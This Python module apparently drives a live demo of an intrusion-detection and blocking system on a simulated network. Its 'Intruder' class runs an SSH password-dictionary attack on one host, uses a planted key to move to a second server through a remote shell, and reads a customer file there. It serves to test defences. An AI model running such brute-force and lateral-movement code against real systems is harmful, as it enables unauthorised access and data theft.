"""The live demo's people on the network: an attacker with a dictionary, and somebody who must never notice.

Real SSH clients, whose sockets are made inside the hosts of `bot.demo.network`.
"""

from __future__ import annotations

import asyncio
import json
import re
import signal
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import asyncssh

from bot.demo.network import Host, Network

USER, PASSWORD = "deploy", "Summer2026!"
DICTIONARY = (
    ("root", "123456"), ("admin", "admin"), (USER, "password"), (USER, "letmein"), (USER, "qwerty"),
    (USER, "Spring2026!"), (USER, "deploy123"), (USER, PASSWORD),
)  # fmt: skip
LOOT = "/srv/shop/customers.csv"
CUSTOMERS = "id,name,mail\n1,example,example@example.org\n"
HOP = ("ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR")
ALICE = "correct horse battery"
USERS = {
    "web-1": {USER: PASSWORD},
    "db-1": {USER: "another one, long and random"},
    "files-1": {"alice": ALICE},
}
"""Accounts of the hosts. The second server takes deploy's key, which lies on the first."""


def furnish(hosts: Network) -> None:
    """Put in place what the attacker will find: a key that opens the next server, and a file there."""
    web, db = hosts.hosts["web-1"], hosts.hosts["db-1"]
    web.run("install", "-d", "-o", USER, "-g", USER, "-m", "700", f"/home/{USER}/.ssh")
    key = f"/home/{USER}/.ssh/id_ed25519"
    web.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
    web.run("chown", f"{USER}:{USER}", key, f"{key}.pub")
    db.run("install", "-d", "-o", USER, "-g", USER, "-m", "700", f"/home/{USER}/.ssh")
    db.run("tee", f"/home/{USER}/.ssh/authorized_keys", given=web.run("cat", f"{key}.pub"))
    db.run("mkdir", "-p", "/srv/shop")
    db.run("tee", LOOT, given=CUSTOMERS)


async def log_in(source: Host, host: Host, user: str, password: str) -> asyncssh.SSHClientConnection:
    """Log in by password from a host. Raises OSError or `asyncssh.Error`."""
    return await asyncssh.connect(
        sock=await source.dial(host.address),
        username=user,
        password=password,
        known_hosts=None,
        client_keys=None,
        agent_path=None,
        config=None,
        preferred_auth="password",
        connect_timeout=10,
        login_timeout=10,
    )


@dataclass
class Intruder:
    hosts: Network
    tell: Callable[[str], None]
    attempts: int = 0
    session: asyncssh.SSHClientConnection | None = None
    onward: asyncssh.SSHClientProcess[str] | None = None
    """A shell on the second server, through the first."""

    @property
    def home(self) -> Host:
        return self.hosts.hosts["attacker"]

    async def break_in(self, *, pause: float = 0.1) -> None:
        """Guess until a password fits. The session stays open."""
        web = self.hosts.hosts["web-1"]
        for user, password in DICTIONARY:
            self.attempts += 1
            try:
                self.session = await log_in(self.home, web, user, password)
            except asyncssh.PermissionDenied:
                self.tell(f"{self.home.address} tries {user} / {password} at web-1: denied")
                await asyncio.sleep(pause)
                continue
            self.tell(f"{self.home.address} tries {user} / {password} at web-1: LOGGED IN")
            return
        raise RuntimeError("no password of the dictionary fits")

    async def go_on(self) -> str:
        """Take the key that lies there to the second server; returns the file that is read there."""
        assert self.session is not None
        self.onward = await self.session.create_process(" ".join([*HOP, f"{USER}@db-1", "/bin/sh"]))
        loot = await self._say(f"cat {LOOT}; echo")
        self.tell(f"{self.home.address} goes on to db-1 with the key of {USER}, and reads {LOOT}")
        return loot

    async def _say(self, command: str) -> str:
        """Have the shell on the second server run a command. Raises OSError or TimeoutError."""
        assert self.onward is not None
        self.onward.stdin.write(f"{command} && echo END\n")
        lines: list[str] = []
        async with asyncio.timeout(10):
            while not lines or lines[-1] != "END":
                if not (line := await self.onward.stdout.readline()):
                    raise ConnectionError("the shell is gone")
                lines.append(line.rstrip("\n"))
        return "\n".join(lines[:-1])

    async def is_in(self) -> bool:
        """Whether the session on the first server still answers."""
        if self.session is None or self.session.is_closed():
            return False
        try:
            await asyncio.wait_for(self.session.run("id", check=True), 2)
        except (asyncssh.Error, OSError, TimeoutError):
            return False
        return True

    async def can_connect(self, host: Host, seconds: float = 1.5) -> bool:
        try:
            (await self.home.dial(host.address, seconds=seconds)).close()
        except OSError:
            return False
        return True

    def close(self) -> None:
        if self.session is not None:
            self.session.abort()


@dataclass
class Bystander:
    """Somebody who pings two servers without a pause and works on one of them."""

    hosts: Network
    folder: Path
    _pinging: dict[str, subprocess.Popen[bytes]] = field(default_factory=dict)
    _session: asyncssh.SSHClientConnection | None = None

    async def start(self) -> None:
        home = self.hosts.hosts["bystander"]
        for name in ("web-1", "files-1"):
            log = (self.folder / f"ping-{name}.log").open("wb")
            words = ("ping", "-n", "-i", "0.05", self.hosts.hosts[name].address)
            self._pinging[name] = home.start(*words, stdout=log, stderr=log)
            log.close()
        self._session = await log_in(home, self.hosts.hosts["files-1"], "alice", ALICE)

    async def works(self) -> bool:
        assert self._session is not None
        return (await self._session.run("echo fine", check=True)).stdout == "fine\n"

    async def lost(self) -> tuple[int, int]:
        """Stop pinging; returns how many answers came, and how many of those before the last did not."""
        came = lost = 0
        for name, ping in self._pinging.items():
            ping.send_signal(signal.SIGINT)
            await asyncio.to_thread(ping.wait)
            text = (self.folder / f"ping-{name}.log").read_text()
            seen = sorted({int(number) for number in re.findall(r"icmp_seq=(\d+) ttl", text)})
            came += len(seen)
            lost += seen[-1] - len(seen) if seen else 1
        self._pinging.clear()
        return came, lost

    def close(self) -> None:
        if self._session is not None:
            self._session.abort()


def dropped(host: Host, address: str) -> int:
    """Return how many packets of an address a host's kernel dropped, as its set counts them."""
    listed = json.loads(host.run("nft", "-j", "list", "set", "inet", "siem", "blocked4"))
    elements = next(one["set"].get("elem", []) for one in listed["nftables"] if "set" in one)
    return sum(one["elem"]["counter"]["packets"] for one in elements if one["elem"]["val"] == address)


async def reached_by_us(hosts: Network) -> list[str]:
    """Return the servers that this system's key still opens, each over a new connection."""
    key = asyncssh.read_private_key(hosts.key_file)
    found = []
    for name, host in hosts.servers.items():
        async with asyncio.timeout(15):
            async with asyncssh.connect(
                host.address,
                username="root",
                client_keys=[key],
                known_hosts=str(hosts.known_hosts),
                config=None,
                agent_path=None,
            ) as connection:
                await connection.run("true", check=True)
                found.append(name)
    return found
